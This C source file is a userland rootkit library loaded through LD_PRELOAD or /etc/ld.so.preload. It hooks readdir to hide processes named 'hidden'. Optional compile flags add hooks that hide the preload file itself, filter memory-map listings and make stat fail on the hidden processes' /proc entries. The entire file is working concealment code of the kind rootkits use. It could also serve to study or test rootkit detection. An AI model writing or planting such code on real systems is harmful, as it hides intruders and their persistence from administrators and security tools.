// A library that hides processes named "hidden" from every program that loads
// it, as rootkits do from /etc/ld.so.preload. How far it goes is chosen when it
// is compiled: HIDE_FILE also hides /etc/ld.so.preload, HIDE_MAPS its own lines
// in lists of mappings, HIDE_STAT the folders of the processes.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <dlfcn.h>

static int raw_open(const char *path) { return syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC, 0); }

static int is_hidden(const char *number) {
	char path[300], text[32] = "";
	if (*number < '0' || *number > '9')
		return 0;
	snprintf(path, sizeof path, "/proc/%s/comm", number);
	int fd = raw_open(path);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, text, sizeof text - 1);
	close(fd);
	return n > 0 && !strcmp(text, "hidden\n");
}

struct dirent *readdir(DIR *dir) {
	struct dirent *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir");
	struct dirent *entry;
	while ((entry = next(dir)) && is_hidden(entry->d_name))
		;
	return entry;
}

struct dirent64 *readdir64(DIR *dir) {
	struct dirent64 *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
	struct dirent64 *entry;
	while ((entry = next(dir)) && is_hidden(entry->d_name))
		;
	return entry;
}

#if defined(HIDE_FILE) || defined(HIDE_MAPS)
#ifdef HIDE_MAPS
static int filtered(int fd) {
	int copy = memfd_create("x", 0);
	FILE *in = fdopen(fd, "r");
	char *line = NULL;
	size_t size = 0;
	while (getline(&line, &size, in) > 0)
		if (!strstr(line, "hide"))
			if (write(copy, line, strlen(line)) < 0)
				break;
	fclose(in);
	free(line);
	lseek(copy, 0, SEEK_SET);
	return copy;
}
#endif

static int opened(int dir, const char *path, int flags, mode_t mode) {
	if (strstr(path, "ld.so.preload")) {
		errno = ENOENT;
		return -1;
	}
	int fd = syscall(SYS_openat, dir, path, flags, mode);
#ifdef HIDE_MAPS
	const char *end = strrchr(path, '/');
	if (fd >= 0 && end && !strcmp(end, "/maps"))
		return filtered(fd);
#endif
	return fd;
}

#define MODE(mode) \
	va_list list; \
	va_start(list, flags); \
	mode_t mode = flags & O_CREAT ? va_arg(list, mode_t) : 0; \
	va_end(list)

int open(const char *path, int flags, ...) {
	MODE(mode);
	return opened(AT_FDCWD, path, flags, mode);
}
int open64(const char *path, int flags, ...) {
	MODE(mode);
	return opened(AT_FDCWD, path, flags, mode);
}
int openat(int dir, const char *path, int flags, ...) {
	MODE(mode);
	return opened(dir, path, flags, mode);
}
int openat64(int dir, const char *path, int flags, ...) {
	MODE(mode);
	return opened(dir, path, flags, mode);
}
#endif

#ifdef HIDE_STAT
static int refused(const char *path) {
	char number[16];
	if (!strncmp(path, "/proc/", 6))
		path += 6;
	if (sscanf(path, "%15[0-9]", number) != 1 || !is_hidden(number))
		return 0;
	errno = ENOENT;
	return 1;
}
int stat(const char *path, struct stat *s) {
	return refused(path) ? -1 : syscall(SYS_newfstatat, AT_FDCWD, path, s, 0);
}
int stat64(const char *path, struct stat64 *s) {
	return refused(path) ? -1 : syscall(SYS_newfstatat, AT_FDCWD, path, s, 0);
}
#endif
